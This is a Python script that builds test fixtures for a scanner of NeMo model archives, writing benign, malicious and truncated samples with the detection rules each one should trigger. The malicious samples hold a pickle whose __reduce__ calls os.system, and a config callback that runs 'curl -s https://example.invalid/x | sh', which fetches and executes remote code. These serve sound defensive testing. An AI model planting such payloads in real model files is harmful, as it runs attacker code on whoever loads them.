#!/usr/bin/env python3
"""Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), and more as they come.

Needs Debian's python3-torch for the PyTorch checkpoints inside the archives. Every output is
deterministic (fixed times, no user names), so a regeneration that changes bytes is a real change.
The file name says the verdict FixtureCorpusTest expects: benign-*, malicious-*, malformed-*;
expected-rules.json lists the rule ids each fixture must produce.
"""
import gzip
import io
import json
import pickle
import tarfile
from pathlib import Path

import torch

ROOT = Path(__file__).resolve().parents[1] / "resources" / "fixtures"
MTIME = 1767225600  # 2026-01-01T00:00:00Z


def checkpoint():
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.randn(4, 4), "encoder.bias": torch.zeros(4)}, buf)
    return buf.getvalue()


class Exec:
    """Pickles as a call of os.system, as a booby-trapped checkpoint does."""

    def __reduce__(self):
        import os
        return (os.system, ("id",))


def evil_checkpoint():
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(2), "trap": Exec()}, buf)
    return buf.getvalue()


def tar(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = MTIME
            info.uname = info.gname = ""
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class Folder:
    def __init__(self, name):
        self.out = ROOT / name
        self.out.mkdir(parents=True, exist_ok=True)
        self.expected = {}

    def write(self, name, data, rules=()):
        (self.out / name).write_bytes(data)
        if rules:
            self.expected[name] = sorted(rules)

    def finish(self):
        (self.out / "expected-rules.json").write_text(
            json.dumps(self.expected, indent=2, sort_keys=True) + "\n")


NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.EncDecCTCModel
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  feat_in: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 28
optim:
  name: adamw
  lr: 0.001
"""


def nemo():
    f = Folder("nemo")
    weights = checkpoint()
    f.write("benign-asr.nemo", tar([("./model_config.yaml", NEMO_CONFIG.encode()),
                                    ("./model_weights.ckpt", weights)]))
    f.write("benign-asr-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0))
    evil = NEMO_CONFIG.replace(
        "decoder:\n",
        "callback:\n  _target_: os.system\n  _args_: ['curl -s https://example.invalid/x | sh']\n"
        "decoder:\n")
    f.write("malicious-target-os-system.nemo",
            tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
            ["NEMO-001"])
    f.write("malicious-target-gzipped.nemo", gzip.compress(
        tar([("./model_config.yaml", evil.encode()), ("./model_weights.ckpt", weights)]),
        mtime=0), ["NEMO-001"])
    custom = NEMO_CONFIG.replace("nemo.collections.asr.modules.ConvASRDecoder",
                                 "my_plugins.decoders.FancyDecoder")
    # An unknown module is only MEDIUM; the booby-trapped checkpoint makes the verdict.
    f.write("malicious-pickle-checkpoint.nemo",
            tar([("./model_config.yaml", custom.encode()),
                 ("./model_weights.ckpt", evil_checkpoint())]),
            ["NEMO-002", "PKL-001"])
    whole = tar([("./model_config.yaml", NEMO_CONFIG.encode()), ("./model_weights.ckpt", weights)])
    f.write("malformed-truncated.nemo", whole[: 512 + 1024 + 512 + 300])
    f.finish()


if __name__ == "__main__":
    nemo()
